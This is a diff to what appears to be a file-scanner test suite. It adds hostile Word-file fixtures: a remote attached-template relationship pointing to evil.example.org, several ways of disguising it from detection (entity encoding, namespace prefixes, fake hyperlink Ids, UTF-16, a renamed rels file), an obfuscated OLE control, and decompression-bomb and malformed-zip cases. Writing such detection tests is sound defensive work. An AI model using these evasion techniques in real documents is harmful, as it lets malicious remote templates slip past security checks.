@@ -12,6 +12,19 @@ _TEMPLATE = (
     b'<Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
     b'Target="http://evil.example.org/t.dotm" TargetMode="External"/>'
 )
+# The same, as another program may write it, and as somebody writes it who does not want it found.
+_DISGUISED = {
+    "with its letters as numbers": _TEMPLATE.replace(b'"External', b'"&#69;xternal'),
+    "with a prefix": _TEMPLATE.replace(b"<Relationship", b'<r:Relationship xmlns:r="u"'),
+    "that looks like a link": _TEMPLATE.replace(b'Id="a"', b'Id="/relationships/hyperlink"'),
+    "that is a link with a prefix": _TEMPLATE.replace(
+        b'Id="a"', b'xmlns:x="u" x:Type="/relationships/hyperlink" x:TargetMode="Internal"'
+    ),
+    "behind a bracket": _TEMPLATE.replace(b'Id="a"', b'Id="a>"'),
+}
+_CONTROL = (
+    b'<Relationship Id="a" Type="http://schemas.openxmlformats.org/relationships/ole&#79;bject" Target="a"/>'
+)
 _LINK = (
     b'<Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
     b'Target="http://example.org/" TargetMode="External"/>'
@@ -83,6 +96,14 @@ def locked() -> bytes:
     while (at := file.find(b"PK\1\2", at)) >= 0:
         file[at + 8] |= 1
         at += 4
+    return bytes(file)
+
+
+def packed(method: int) -> bytes:
+    """A Word file of which one part says that it is packed another way."""
+    file = bytearray(docx({"word/media/a.xml": b"<a/>" * 1000}))
+    at = file.rindex(b"PK\1\2") + 10
+    file[at : at + 2] = struct.pack("<H", method)
     return bytes(file)
 
 
@@ -211,6 +232,53 @@ def hostile() -> dict[str, tuple[str, bytes, str]]:
             docx({"word/_rels/settings.xml.rels": _LINKS % _TEMPLATE}),
             "file_has_program",
         ),
+        **{
+            f"a Word file with a template from elsewhere {how}": (
+                "a.docx",
+                docx({"word/_rels/settings.xml.rels": _LINKS % template}),
+                "file_has_program",
+            )
+            for how, template in _DISGUISED.items()
+        },
+        "a Word file with a template from elsewhere under another name": (
+            "a.docx",
+            docx({"word/_rels/settings.xml.%72els": _LINKS % _DISGUISED["with a prefix"]}),
+            "file_has_program",
+        ),
+        "a Word file with a template from elsewhere in UTF-16": (
+            "a.docx",
+            docx(
+                {"word/_rels/a.rels": (b"<a>%s</a>" % _DISGUISED["with a prefix"]).decode().encode("utf-16")}
+            ),
+            "file_has_program",
+        ),
+        "a Word file with a control in disguise": (
+            "a.docx",
+            docx({"word/_rels/document.xml.rels": _LINKS % _CONTROL}),
+            "file_has_program",
+        ),
+        "a Word file whose links are none": (
+            "a.docx",
+            docx({"word/_rels/document.xml.rels": b"<relationship " * 200_000}),
+            "file_damaged",
+        ),
+        "a Word file whose links nobody can decode": (
+            "a.docx",
+            docx({"word/_rels/document.xml.rels": b'<?xml version="1.0" encoding="none-such"?><a/>'}),
+            "file_damaged",
+        ),
+        "a Word file of sixty megabytes of links": (
+            "a.docx",
+            docx({"word/_rels/document.xml.rels": b"<relationship " * 4_500_000}),
+            "file_unpacks_without_end",
+        ),
+        "a Word file of one link that never ends": (
+            "a.docx",
+            docx({"word/_rels/document.xml.rels": b"<relationship " + b"a" * (4 * 2**20 - 20)}),
+            "file_damaged",
+        ),
+        "a Word file packed by LZMA that is none": ("a.docx", packed(14), "file_damaged"),
+        "a Word file packed by BZIP2 that is none": ("a.docx", packed(12), "file_damaged"),
         "an Excel file with old macros": (
             "a.xlsx",
             xlsx({"xl/macrosheets/sheet1.xml": b"<m/>"}),
